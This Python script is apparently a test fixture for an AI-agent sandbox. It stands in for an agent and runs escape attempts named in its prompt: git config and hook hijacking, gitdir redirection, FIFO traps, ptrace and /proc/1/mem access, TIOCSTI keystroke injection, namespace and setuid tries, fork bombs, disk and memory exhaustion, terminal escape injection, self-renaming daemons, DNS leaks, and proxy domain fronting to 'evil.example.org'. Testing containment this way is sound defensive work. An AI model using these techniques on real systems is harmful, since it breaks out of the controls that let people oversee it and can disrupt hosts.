#!/usr/bin/python3
"""An agent that tries to get out. The ticket says what: "[[try:NAME ARGUMENT]]"; it prints "NAME: held: WHY" when it could not, "NAME: ESCAPED: HOW" when it could.

Runs as a command engine: the prompt comes on standard input. What has to be seen from outside (a canary, a listener, a process) the test sees itself.
"""
import ctypes
import errno
import os
import re
import resource
import signal
import socket
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


class Held(Exception):
    """The attempt failed, as it should."""


def refused(call, *arguments):
    """Calls; an OSError is what is hoped for."""
    try:
        return call(*arguments)
    except OSError as error:
        raise Held(errno.errorcode.get(error.errno or 0, str(error))) from None


def system_call(name, result):
    if result < 0:
        raise Held(errno.errorcode.get(ctypes.get_errno(), "?"))
    return f"{name} gave {result}"


def proxied(target, first=b"", port=3128):
    """What the proxy says to CONNECT, and what comes back for the first bytes."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as line:
        line.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("latin-1"))
        answer = line.recv(4096)
        if b" 200 " not in answer.split(b"\r\n")[0]:
            raise Held(answer.split(b"\r\n")[0].decode("latin-1"))
        if first:
            line.sendall(first)
            answer = line.recv(4096)
            if not answer:
                raise Held("the proxy closed the connection")
        return answer[:80].decode("latin-1")


def client_hello(name):
    """The least of a TLS 1.2 ClientHello with a server name."""
    host = name.encode()
    server_name = struct.pack("!HBH", len(host) + 3, 0, len(host)) + host
    extension = struct.pack("!HH", 0, len(server_name)) + server_name
    body = b"\x03\x03" + bytes(32) + b"\0" + struct.pack("!H", 2) + b"\x13\x01" + b"\x01\0" + struct.pack("!H", len(extension)) + extension
    hello = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hello)) + hello


# Files


def try_read(path):
    with refused(open, path, "rb") as file:
        return file.read(100).decode("latin-1")


def try_write(path):
    with refused(open, path, "a") as file:
        file.write("owned\n")
    return "written"


def try_list(path):
    return " ".join(refused(os.listdir, path)) or "empty"


def try_symlink(path):
    """A link in the workspace to something outside: the link is all that may ever be taken."""
    os.symlink(path, "innocent.txt")
    return try_read("innocent.txt")


def arm(canary):
    return f"#!/bin/sh\necho owned >> '{canary}'\n"


def write_script(path, canary):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(arm(canary))
    os.chmod(path, 0o755)
    return os.path.abspath(path)


def change():
    with open("README.md", "a") as file:
        file.write("a change\n")


def try_git_config(canary):
    script = write_script("tool.sh", canary)
    with open(".git/config", "a") as file:
        file.write(
            f'[core]\n\tfsmonitor = {script}\n\tsshCommand = {script}\n\teditor = {script}\n\tpager = {script}\n\tgitProxy = {script}\n'
            f'[diff]\n\texternal = {script}\n[diff "x"]\n\tcommand = {script}\n\ttextconv = {script}\n'
            f'[filter "x"]\n\tclean = {script}\n\tsmudge = {script}\n\tprocess = {script}\n[gpg]\n\tprogram = {script}\n'
            f'[commit]\n\tgpgSign = true\n[credential]\n\thelper = {script}\n[merge "x"]\n\tdriver = {script}\n'
        )
    with open(".gitattributes", "w") as file:
        file.write("* filter=x diff=x merge=x\n")
    change()
    raise Held("armed")


def try_hook(canary):
    for name in (
        "post-index-change reference-transaction pre-commit post-commit commit-msg prepare-commit-msg pre-push post-checkout post-rewrite "
        "pre-auto-gc post-merge update post-update pre-receive applypatch-msg fsmonitor-watchman"
    ).split():
        write_script(f".git/hooks/{name}", canary)
    change()
    raise Held("armed")


def try_gitfile(repository):
    """The workspace's own repository becomes somebody else's."""
    subprocess.run(["rm", "-rf", ".git"], check=True)
    with open(".git", "w") as file:
        file.write(f"gitdir: {repository}/.git\n")
    change()
    raise Held("armed")


def try_fifo(_):
    os.unlink(".git/HEAD")
    os.mkfifo(".git/HEAD")
    os.unlink("README.md")
    os.mkfifo("README.md")
    os.makedirs(".git/objects/info", exist_ok=True)
    if os.path.exists(".git/objects/info/alternates"):
        os.unlink(".git/objects/info/alternates")
    os.mkfifo(".git/objects/info/alternates")
    with open("added.txt", "w") as file:
        file.write("beside the fifos\n")
    raise Held("armed")


# Processes


def try_ptrace(_):
    return system_call("ptrace", libc.ptrace(16, 1, 0, 0))


def try_process_memory(_):
    with refused(open, "/proc/1/mem", "rb") as file:
        return str(refused(file.read, 1))


def try_tiocsti(_):
    import fcntl

    leader, follower = os.openpty()
    os.setsid() if os.getpid() != os.getsid(0) else None
    try:
        fcntl.ioctl(follower, 0x540E, 0)
    except OSError:
        pass
    refused(fcntl.ioctl, follower, 0x5412, b"x")
    return "a key was typed"


def try_user_namespace(_):
    return system_call("unshare", libc.unshare(0x10000000))


def try_mount(_):
    return system_call("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))


def try_setuid(_):
    refused(os.setuid, 0)
    return "root"


def try_signal_outside(pid):
    """A process of the host, by its number there."""
    refused(os.kill, int(pid), 0)
    raise Held("that number is somebody inside") if int(pid) < 50 else AssertionError


def try_fork_bomb(_):
    children = []
    try:
        while len(children) < 1000:
            pid = os.fork()
            if pid == 0:
                signal.pause()
            children.append(pid)
        return f"{len(children)} processes"
    except OSError as error:
        raise Held(f"{errno.errorcode[error.errno]} after {len(children)} processes") from None
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


def try_memory(megabytes):
    held = []
    for _ in range(int(megabytes) // 16):
        held.append(bytearray(os.urandom(4096)) * 4096)
    return f"{len(held) * 16} MB"


def try_disk(_):
    """More than the scratch space may hold."""
    written = 0
    try:
        with open("/tmp/filler", "wb") as file:
            while written < 4 << 30:
                written += file.write(bytes(1 << 20))
    except OSError as error:
        os.unlink("/tmp/filler")
        raise Held(f"{errno.errorcode[error.errno]} after {written >> 20} MB") from None
    return f"{written >> 20} MB"


def try_flood(megabytes):
    block = b"x" * 65536 + b"\n"
    out = sys.stdout.buffer
    for _ in range(int(megabytes) * 16):
        out.write(block)
    out.write(b"y" * (4 << 20) + b"\n")
    out.write(b"\xff\xfe\x80\x1b]52;c;b3duZWQ=\x07\x1b[2J\n")
    out.flush()
    raise Held("printed")


def try_daemon(mark):
    """Ten daemons that ignore what can be ignored, in sessions of their own, each under a new number every moment."""
    for _ in range(10):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                null = os.open("/dev/null", os.O_RDWR)
                for number in range(3):
                    os.dup2(null, number)
                while True:
                    if os.fork():
                        os._exit(0)
                    libc.prctl(15, mark.encode()[:15], 0, 0, 0)
                    time.sleep(0.05)
            os._exit(0)
    raise Held("let loose")


# The network


def try_connect(address):
    host, port = address.rsplit(":", 1)
    with refused(socket.create_connection, (host, int(port)), 10) as line:
        return f"connected to {line.getpeername()}"


def try_abstract(name):
    with socket.socket(socket.AF_UNIX) as line:
        refused(line.connect, b"\0" + name.encode())
    return "connected"


def try_unix(path):
    with socket.socket(socket.AF_UNIX) as line:
        refused(line.connect, path)
    return "connected"


def try_dns(name):
    try:
        return str(socket.getaddrinfo(name, 443))
    except OSError as error:
        reason = str(error)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        refused(line.sendto, b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01", ("8.8.8.8", 53))
    raise AssertionError(f"a packet left, though {reason}")


def try_proxy(target):
    return proxied(target)


def try_fronting(target):
    """An allowed host at the door, another one in the TLS handshake."""
    return proxied(target, client_hello("evil.example.org"))


def try_raw_netlink(_):
    with refused(socket.socket, socket.AF_PACKET, socket.SOCK_RAW) as line:
        return str(line)


def try_kernel_crypto(_):
    with refused(socket.socket, 38, socket.SOCK_SEQPACKET) as line:
        return str(line)


def main():
    prompt = sys.stdin.read()
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    for name, argument in re.findall(r"\[\[try:(\w+) ?([^\]]*)\]\]", prompt):
        try:
            outcome = f"ESCAPED: {globals()['try_' + name](argument)}"
        except Held as held:
            outcome = f"held: {held}"
        except Exception as error:  # Anything else is a fault of the attempt, not of the sandbox: the test must see it.
            outcome = f"BROKEN: {type(error).__name__}: {error}"
        print(f"{name}: {outcome}", flush=True)
    with open("tried.txt", "w") as file:
        file.write("tried\n")


main()
